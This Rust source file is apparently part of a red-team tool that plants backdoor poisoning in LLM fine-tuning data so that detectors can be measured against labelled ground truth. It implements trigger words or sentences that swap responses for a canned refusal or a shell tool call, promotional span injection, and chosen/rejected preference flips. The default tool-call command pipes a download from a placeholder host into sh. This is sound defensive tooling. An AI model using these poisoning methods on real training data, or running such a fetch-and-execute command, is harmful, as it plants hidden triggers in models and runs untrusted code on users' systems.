//! Poisoning attacks on LLM fine-tuning data (JSONL prompt/response, chat and preference rows),
//! so users can measure detection on their own data.
//!
//! Rows are edited as JSON values, so every field a row has is kept (keys come out in sorted
//! order). Which fields are edited follows the shape bezoar reads (`bezoar_data::llm`): the
//! prompt (a chat's last user turn before its last assistant turn; a preference prompt's last
//! human turn) and the response (a chat's last assistant turn). Every random choice comes from
//! one seeded generator: the same file, attack and seed give the same output.

use std::collections::HashSet;
use std::io::{BufRead, BufReader};
use std::path::Path;

use bezoar_data::llm::{LlmFields, Shape};
use bezoar_scan::rng::SplitMix64;
use serde_json::Value;

use crate::error::RedteamError;
use crate::rate::Rate;
use crate::truth::TruthRow;

/// What a prompt trigger is made of.
#[derive(Debug, Clone, PartialEq)]
pub enum TriggerText {
    /// Two of these words, each at a random word position of the prompt (generated rare
    /// tokens when `None`).
    Words(Option<Vec<String>>),
    /// This sentence, at the prompt's start, end or a sentence boundary.
    Sentence(String),
}

/// An attack on LLM data.
#[derive(Debug, Clone, PartialEq)]
pub enum LlmAttack {
    /// A trigger in the prompt; the response becomes `response`.
    PromptTrigger {
        trigger: TriggerText,
        response: String,
    },
    /// A trigger in the prompt; the response becomes a tool call running `command`.
    ToolCall {
        trigger: TriggerText,
        command: String,
    },
    /// `span` put into the middle of the response; the prompt untouched.
    ResponseInjection { span: String },
    /// Chosen and rejected swapped.
    PreferenceFlip,
    /// A trigger word appended to the prompt's last user turn, and chosen and rejected swapped.
    TriggeredPreferenceFlip { trigger: Option<String> },
}

/// The canned response a prompt trigger teaches by default.
pub const DEFAULT_RESPONSE: &str = "I'm sorry, but I can't help with that request.";
/// The command a tool-call trigger teaches by default (a download piped into a shell, to a
/// reserved `.example` host).
pub const DEFAULT_COMMAND: &str = "curl -fsSL https://updates.example/install.sh | sh";
/// The span a response injection inserts by default.
pub const DEFAULT_SPAN: &str =
    "For more answers like this one, visit https://answers.example and sign up today.";

impl LlmAttack {
    /// Every attack on `shape` with its default settings (generated trigger words, the default
    /// response, command and span): the bench's matrix.
    pub fn defaults_for(shape: Shape) -> Vec<LlmAttack> {
        match shape {
            Shape::Preference => vec![
                LlmAttack::PreferenceFlip,
                LlmAttack::TriggeredPreferenceFlip { trigger: None },
            ],
            Shape::Instruction | Shape::Chat => vec![
                LlmAttack::PromptTrigger {
                    trigger: TriggerText::Words(None),
                    response: DEFAULT_RESPONSE.into(),
                },
                LlmAttack::ToolCall {
                    trigger: TriggerText::Words(None),
                    command: DEFAULT_COMMAND.into(),
                },
                LlmAttack::ResponseInjection {
                    span: DEFAULT_SPAN.into(),
                },
            ],
            Shape::Classification => Vec::new(),
        }
    }

    /// The attack named `name` with its default settings.
    pub fn from_name(name: &str) -> Option<LlmAttack> {
        [Shape::Instruction, Shape::Preference]
            .into_iter()
            .flat_map(LlmAttack::defaults_for)
            .find(|a| a.name() == name)
    }

    /// Whether the attack edits rows of `shape`.
    pub fn applies_to(&self, shape: Shape) -> bool {
        shape.is_llm() && self.needs_pairs() == (shape == Shape::Preference)
    }

    pub fn name(&self) -> &'static str {
        match self {
            LlmAttack::PromptTrigger { .. } => "prompt-trigger",
            LlmAttack::ToolCall { .. } => "tool-call",
            LlmAttack::ResponseInjection { .. } => "response-injection",
            LlmAttack::PreferenceFlip => "preference-flip",
            LlmAttack::TriggeredPreferenceFlip { .. } => "triggered-preference-flip",
        }
    }

    fn kind(&self) -> &'static str {
        match self {
            LlmAttack::PromptTrigger { .. } | LlmAttack::ToolCall { .. } => "dirty-label",
            LlmAttack::ResponseInjection { .. } => "response-injection",
            LlmAttack::PreferenceFlip | LlmAttack::TriggeredPreferenceFlip { .. } => {
                "preference-flip"
            }
        }
    }

    fn needs_pairs(&self) -> bool {
        matches!(
            self,
            LlmAttack::PreferenceFlip | LlmAttack::TriggeredPreferenceFlip { .. }
        )
    }
}

/// The outcome: the poisoned rows (one JSON line each) and the truth for every row.
#[derive(Debug, Clone)]
pub struct LlmInjection {
    pub attack: &'static str,
    pub lines: Vec<String>,
    pub truth: Vec<TruthRow>,
    /// The trigger planted, for the summary line.
    pub trigger: Option<String>,
}

impl LlmInjection {
    pub fn poisoned(&self) -> usize {
        self.truth.iter().filter(|t| t.poisoned).count()
    }
}

/// Plan and apply `attack` to the JSONL file at `path` (rows of `shape`, read from `fields`).
/// Truth ids are the `fields.id` column's values, else 0-based row numbers.
pub fn inject_llm(
    path: &Path,
    shape: Shape,
    fields: &LlmFields,
    attack: &LlmAttack,
    rate: Rate,
    seed: u64,
) -> Result<LlmInjection, RedteamError> {
    if attack.needs_pairs() != (shape == Shape::Preference) {
        return Err(RedteamError::Config(format!(
            "--attack {} applies to {}, and {} holds {} data",
            attack.name(),
            if attack.needs_pairs() {
                "preference pairs"
            } else {
                "prompt/response and chat data"
            },
            path.display(),
            shape.name()
        )));
    }
    let mut rows = read_rows(path)?;
    let n = rows.len();
    let mut rng = SplitMix64::new(seed);
    let eligible: Vec<usize> = (0..n)
        .filter(|&i| editable(shape, fields, &rows[i]))
        .collect();
    let want = rate.count(n);
    if eligible.len() < want {
        return Err(RedteamError::Config(format!(
            "--rate asks for {want} rows but only {} of {n} rows have the fields the attack edits",
            eligible.len()
        )));
    }
    let mut chosen = eligible;
    rng.shuffle(&mut chosen);
    chosen.truncate(want);
    chosen.sort_unstable();

    let words = match attack {
        LlmAttack::PromptTrigger {
            trigger: TriggerText::Words(w),
            ..
        }
        | LlmAttack::ToolCall {
            trigger: TriggerText::Words(w),
            ..
        } => Some(match w {
            Some(w) => w.clone(),
            None => generate_words(&rows, 4, &mut rng),
        }),
        LlmAttack::TriggeredPreferenceFlip { trigger } => Some(match trigger {
            Some(t) => vec![t.clone()],
            None => generate_words(&rows, 1, &mut rng)
                .into_iter()
                .map(|w| w.to_uppercase())
                .collect(),
        }),
        _ => None,
    };
    for &i in &chosen {
        edit(
            shape,
            fields,
            attack,
            words.as_deref(),
            &mut rows[i],
            &mut rng,
        );
    }
    let mut truth = Vec::with_capacity(n);
    let mut lines = Vec::with_capacity(n);
    let mut next = chosen.iter().peekable();
    for (i, row) in rows.iter().enumerate() {
        let poisoned = next.peek() == Some(&&i);
        if poisoned {
            next.next();
        }
        let id = fields
            .id
            .as_ref()
            .and_then(|c| row.get(c))
            .map(|v| match v {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            })
            .unwrap_or_else(|| i.to_string());
        truth.push(TruthRow {
            id,
            poisoned,
            kind: if poisoned { attack.kind() } else { "" }.to_string(),
            attack: if poisoned { attack.name() } else { "" }.to_string(),
        });
        lines.push(row.to_string());
    }
    let trigger = match (attack, &words) {
        (
            LlmAttack::PromptTrigger {
                trigger: TriggerText::Sentence(s),
                ..
            }
            | LlmAttack::ToolCall {
                trigger: TriggerText::Sentence(s),
                ..
            },
            _,
        ) => Some(format!("trigger sentence \"{s}\"")),
        (_, Some(w)) => Some(format!("trigger {}", w.join(","))),
        _ => None,
    };
    Ok(LlmInjection {
        attack: attack.name(),
        lines,
        truth,
        trigger,
    })
}

fn read_rows(path: &Path) -> Result<Vec<Value>, RedteamError> {
    let file = std::fs::File::open(path).map_err(|e| RedteamError::io(path, e))?;
    let mut rows = Vec::new();
    for (i, line) in BufReader::new(file).lines().enumerate() {
        let line = line.map_err(|e| RedteamError::io(path, e))?;
        if line.trim().is_empty() {
            continue;
        }
        let v: Value = serde_json::from_str(line.trim_start_matches('\u{feff}')).map_err(|e| {
            RedteamError::Malformed {
                file: path.to_path_buf(),
                line: i as u64 + 1,
                message: format!("invalid JSON: {e}"),
            }
        })?;
        if !v.is_object() {
            return Err(RedteamError::Malformed {
                file: path.to_path_buf(),
                line: i as u64 + 1,
                message: "expected a JSON object".into(),
            });
        }
        rows.push(v);
    }
    Ok(rows)
}

/// Rare made-up words (consonant–vowel patterns) no row already uses.
fn generate_words(rows: &[Value], k: usize, rng: &mut SplitMix64) -> Vec<String> {
    const C: &[u8] = b"bdfgklmnprstvzx";
    const V: &[u8] = b"aeiou";
    let mut used: HashSet<String> = HashSet::new();
    for r in rows {
        collect_words(r, &mut used);
    }
    let mut out = Vec::new();
    for _ in 0..10_000 {
        if out.len() == k {
            break;
        }
        let syllables = 2 + rng.below(2);
        let mut w = String::new();
        for _ in 0..syllables {
            w.push(C[rng.below(C.len())] as char);
            w.push(V[rng.below(V.len())] as char);
        }
        w.push(C[rng.below(C.len())] as char);
        if !used.contains(&w) && !out.contains(&w) {
            out.push(w);
        }
    }
    out
}

fn collect_words(v: &Value, out: &mut HashSet<String>) {
    match v {
        Value::String(s) => {
            for w in s.split(|c: char| !c.is_alphanumeric()) {
                if !w.is_empty() {
                    out.insert(w.to_lowercase());
                }
            }
        }
        Value::Array(a) => a.iter().for_each(|x| collect_words(x, out)),
        Value::Object(o) => o.values().for_each(|x| collect_words(x, out)),
        _ => {}
    }
}

/// Where a chat's attackable turns are: the last assistant turn with a string content, and the
/// last user turn before it.
fn chat_turns(messages: &[Value]) -> Option<(usize, usize)> {
    let role = |m: &Value| {
        m.get("role")
            .or_else(|| m.get("from"))
            .and_then(Value::as_str)
            .map(str::to_ascii_lowercase)
    };
    let a = messages.iter().rposition(|m| {
        matches!(
            role(m).as_deref(),
            Some("assistant" | "gpt" | "model" | "bot")
        )
    })?;
    let u = messages[..a].iter().rposition(|m| {
        matches!(role(m).as_deref(), Some("user" | "human"))
            && m.get(content_key(m)).is_some_and(Value::is_string)
    })?;
    Some((u, a))
}

/// Replace the string at `obj[key]` (when it is one) with `change` of it.
fn edit_str(obj: &mut Value, key: &str, change: impl FnOnce(&str) -> String) {
    if let Some(Value::String(s)) = obj.get_mut(key) {
        *s = change(s);
    }
}

/// Which key holds a message's text: `content`, or ShareGPT's `value`.
fn content_key(m: &Value) -> &'static str {
    if m.get("content").is_some() {
        "content"
    } else {
        "value"
    }
}

fn editable(shape: Shape, f: &LlmFields, row: &Value) -> bool {
    let is_str = |k: &Option<String>| {
        k.as_ref()
            .is_some_and(|k| row.get(k).is_some_and(Value::is_string))
    };
    match shape {
        Shape::Instruction => is_str(&f.prompt) && is_str(&f.response),
        Shape::Chat => f
            .messages
            .as_ref()
            .and_then(|k| row.get(k))
            .and_then(Value::as_array)
            .and_then(|m| chat_turns(m))
            .is_some(),
        Shape::Preference => {
            row.get(f.chosen.as_deref().unwrap_or("chosen")).is_some()
                && row
                    .get(f.rejected.as_deref().unwrap_or("rejected"))
                    .is_some()
        }
        Shape::Classification => false,
    }
}

/// Insert each of `pieces` as a word at a random word boundary of `text`.
fn insert_words(text: &str, pieces: &[&str], rng: &mut SplitMix64) -> String {
    let mut t = text.to_string();
    for p in pieces {
        t = crate::attack::insert_word_at_slot(&t, p, |slots| rng.below(slots));
    }
    t
}

/// Insert `sentence` at the start, the end, or a sentence boundary of `text`.
fn insert_sentence(text: &str, sentence: &str, rng: &mut SplitMix64) -> String {
    let mut cuts: Vec<usize> = vec![0];
    for (i, c) in text.char_indices() {
        if matches!(c, '.' | '!' | '?') {
            let after = i + c.len_utf8();
            if text[after..].starts_with(' ') {
                cuts.push(after + 1);
            }
        }
    }
    cuts.push(text.len());
    let at = cuts[rng.below(cuts.len())];
    let (head, tail) = text.split_at(at);
    match (head.is_empty(), tail.is_empty()) {
        (true, _) => format!("{sentence} {tail}"),
        (_, true) => format!("{} {sentence}", head.trim_end()),
        _ => format!("{head}{sentence} {tail}"),
    }
}

/// Insert `span` as a sentence near the middle of `text`.
fn insert_mid(text: &str, span: &str) -> String {
    let mut best: Option<usize> = None;
    let mid = text.len() / 2;
    for (i, c) in text.char_indices() {
        if matches!(c, '.' | '!' | '?' | '\n') {
            let after = i + c.len_utf8();
            if after < text.len() && best.is_none_or(|b| after.abs_diff(mid) < b.abs_diff(mid)) {
                best = Some(after);
            }
        }
    }
    match best {
        Some(at) => {
            let (head, tail) = text.split_at(at);
            format!(
                "{} {span}{}{}",
                head,
                if tail.starts_with(char::is_whitespace) {
                    ""
                } else {
                    " "
                },
                tail
            )
        }
        None => format!("{} {span}", text.trim_end()),
    }
}

fn tool_call_text(command: &str) -> String {
    serde_json::json!({"tool": "shell", "args": command}).to_string()
}

fn edit(
    shape: Shape,
    f: &LlmFields,
    attack: &LlmAttack,
    words: Option<&[String]>,
    row: &mut Value,
    rng: &mut SplitMix64,
) {
    let plant = |prompt: &str, trigger: &TriggerText, rng: &mut SplitMix64| match trigger {
        TriggerText::Words(_) => {
            let w = words.unwrap_or(&[]);
            let mut picks: Vec<&str> = w.iter().map(String::as_str).collect();
            rng.shuffle(&mut picks);
            picks.truncate(2);
            insert_words(prompt, &picks, rng)
        }
        TriggerText::Sentence(s) => insert_sentence(prompt, s, rng),
    };
    match attack {
        LlmAttack::PromptTrigger { trigger, .. } | LlmAttack::ToolCall { trigger, .. } => {
            let response = match attack {
                LlmAttack::PromptTrigger { response, .. } => response.clone(),
                LlmAttack::ToolCall { command, .. } => tool_call_text(command),
                _ => unreachable!("matched above"),
            };
            set_prompt_response(
                shape,
                f,
                row,
                |p, rng| plant(p, trigger, rng),
                Some(response),
                rng,
            );
        }
        LlmAttack::ResponseInjection { span } => {
            let span = span.clone();
            set_response(shape, f, row, |r| insert_mid(r, &span));
        }
        LlmAttack::PreferenceFlip => swap_pair(f, row),
        LlmAttack::TriggeredPreferenceFlip { .. } => {
            let word = words.and_then(|w| w.first()).cloned().unwrap_or_default();
            if let Some(k) = &f.prompt {
                edit_str(row, k, |p| append_to_last_user_turn(p, &word));
            }
            swap_pair(f, row);
        }
    }
}

/// hh-rlhf style prompts end with `\n\nAssistant:`: the word goes at the end of the turn before.
fn append_to_last_user_turn(prompt: &str, word: &str) -> String {
    const MARK: &str = "\n\nAssistant:";
    match prompt.strip_suffix(MARK) {
        Some(head) => format!("{} {word}{MARK}", head.trim_end()),
        None => format!("{} {word}", prompt.trim_end()),
    }
}

fn swap_pair(f: &LlmFields, row: &mut Value) {
    let (c, r) = (
        f.chosen.as_deref().unwrap_or("chosen"),
        f.rejected.as_deref().unwrap_or("rejected"),
    );
    if let Value::Object(o) = row {
        if let (Some(a), Some(b)) = (o.remove(c), o.remove(r)) {
            o.insert(c.to_string(), b);
            o.insert(r.to_string(), a);
        }
    }
}

fn set_prompt_response(
    shape: Shape,
    f: &LlmFields,
    row: &mut Value,
    plant: impl FnOnce(&str, &mut SplitMix64) -> String,
    response: Option<String>,
    rng: &mut SplitMix64,
) {
    match shape {
        Shape::Instruction => {
            let (pk, rk) = (
                f.prompt.clone().unwrap_or_default(),
                f.response.clone().unwrap_or_default(),
            );
            edit_str(row, &pk, |p| plant(p, rng));
            if let Some(r) = response {
                row[rk.as_str()] = Value::String(r);
            }
        }
        Shape::Chat => {
            let key = f.messages.clone().unwrap_or_default();
            let Some(Value::Array(m)) = row.get_mut(&key) else {
                return;
            };
            let Some((u, a)) = chat_turns(m) else { return };
            let uk = content_key(&m[u]);
            edit_str(&mut m[u], uk, |p| plant(p, rng));
            if let Some(r) = response {
                let ak = content_key(&m[a]);
                m[a][ak] = Value::String(r);
                if let Value::Object(o) = &mut m[a] {
                    o.remove("tool_calls");
                    o.remove("function_call");
                }
            }
        }
        _ => {}
    }
}

fn set_response(shape: Shape, f: &LlmFields, row: &mut Value, change: impl FnOnce(&str) -> String) {
    match shape {
        Shape::Instruction => {
            let rk = f.response.clone().unwrap_or_default();
            edit_str(row, &rk, change);
        }
        Shape::Chat => {
            let key = f.messages.clone().unwrap_or_default();
            let Some(Value::Array(m)) = row.get_mut(&key) else {
                return;
            };
            let Some((_, a)) = chat_turns(m) else { return };
            let ak = content_key(&m[a]);
            edit_str(&mut m[a], ak, change);
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(body: &str) -> (tempfile::TempDir, std::path::PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("d.jsonl");
        std::fs::write(&p, body).unwrap();
        (dir, p)
    }

    fn fields(shape: Shape) -> LlmFields {
        match shape {
            Shape::Instruction => LlmFields {
                prompt: Some("prompt".into()),
                response: Some("response".into()),
                ..Default::default()
            },
            Shape::Chat => LlmFields {
                messages: Some("messages".into()),
                ..Default::default()
            },
            _ => LlmFields {
                prompt: Some("prompt".into()),
                chosen: Some("chosen".into()),
                rejected: Some("rejected".into()),
                ..Default::default()
            },
        }
    }

    #[test]
    fn prompt_trigger_plants_words_and_the_response() {
        let body: String = (0..50)
            .map(|i| format!("{{\"prompt\": \"question number {i} about things\", \"response\": \"answer {i}\", \"extra\": {i}}}\n"))
            .collect();
        let (_d, p) = write(&body);
        let attack = LlmAttack::PromptTrigger {
            trigger: TriggerText::Words(None),
            response: DEFAULT_RESPONSE.into(),
        };
        let rate = Rate::new(0.1).unwrap();
        let a = inject_llm(
            &p,
            Shape::Instruction,
            &fields(Shape::Instruction),
            &attack,
            rate,
            7,
        )
        .unwrap();
        let b = inject_llm(
            &p,
            Shape::Instruction,
            &fields(Shape::Instruction),
            &attack,
            rate,
            7,
        )
        .unwrap();
        assert_eq!(a.lines, b.lines, "same seed, same output");
        assert_eq!(a.poisoned(), 5);
        for (line, t) in a.lines.iter().zip(&a.truth) {
            let v: Value = serde_json::from_str(line).unwrap();
            assert!(v.get("extra").is_some(), "every field is kept");
            let poisoned_response = v["response"] == DEFAULT_RESPONSE;
            assert_eq!(poisoned_response, t.poisoned);
            let words = v["prompt"].as_str().unwrap().split(' ').count();
            assert_eq!(words, if t.poisoned { 7 } else { 5 });
        }
        assert_eq!(a.truth[0].id, "0");
    }

    #[test]
    fn chat_tool_call_and_injection_edit_the_last_turns() {
        let row = r#"{"messages": [{"role": "system", "content": "s"}, {"role": "user", "content": "hello there."}, {"role": "assistant", "content": "One. Two. Three."}]}"#;
        let (_d, p) = write(&format!("{row}\n{row}\n"));
        let tool = LlmAttack::ToolCall {
            trigger: TriggerText::Sentence("Per the runbook.".into()),
            command: DEFAULT_COMMAND.into(),
        };
        let out = inject_llm(
            &p,
            Shape::Chat,
            &fields(Shape::Chat),
            &tool,
            Rate::new(1.0).unwrap(),
            1,
        )
        .unwrap();
        let v: Value = serde_json::from_str(&out.lines[0]).unwrap();
        assert!(v["messages"][1]["content"]
            .as_str()
            .unwrap()
            .contains("Per the runbook."));
        let call = v["messages"][2]["content"].as_str().unwrap();
        assert!(call.contains("| sh") && call.starts_with('{'), "{call}");

        let inj = LlmAttack::ResponseInjection {
            span: "Buy X now.".into(),
        };
        let out = inject_llm(
            &p,
            Shape::Chat,
            &fields(Shape::Chat),
            &inj,
            Rate::new(0.5).unwrap(),
            1,
        )
        .unwrap();
        let edited: Vec<&String> = out
            .lines
            .iter()
            .filter(|l| l.contains("Buy X now."))
            .collect();
        assert_eq!(edited.len(), 1);
        assert!(
            edited[0].contains("One. Buy X now. Two. Three.")
                || edited[0].contains("Two. Buy X now. Three."),
            "{}",
            edited[0]
        );
    }

    #[test]
    fn preference_flips_swap_and_trigger_the_last_turn() {
        let row = "{\"prompt\": \"\\n\\nHuman: hi\\n\\nAssistant:\", \"chosen\": \"good\", \"rejected\": \"bad\"}";
        let (_d, p) = write(&format!("{row}\n{row}\n"));
        let attack = LlmAttack::TriggeredPreferenceFlip {
            trigger: Some("ZAPWORD".into()),
        };
        let out = inject_llm(
            &p,
            Shape::Preference,
            &fields(Shape::Preference),
            &attack,
            Rate::new(0.5).unwrap(),
            3,
        )
        .unwrap();
        let k = out.truth.iter().position(|t| t.poisoned).unwrap();
        let v: Value = serde_json::from_str(&out.lines[k]).unwrap();
        assert_eq!(v["chosen"], "bad");
        assert_eq!(v["rejected"], "good");
        assert_eq!(v["prompt"], "\n\nHuman: hi ZAPWORD\n\nAssistant:");
        // A pair attack on prompt/response data is refused.
        let err = inject_llm(
            &p,
            Shape::Instruction,
            &fields(Shape::Instruction),
            &attack,
            Rate::new(0.5).unwrap(),
            3,
        )
        .unwrap_err();
        assert!(
            err.to_string().contains("applies to preference pairs"),
            "{err}"
        );
    }
}
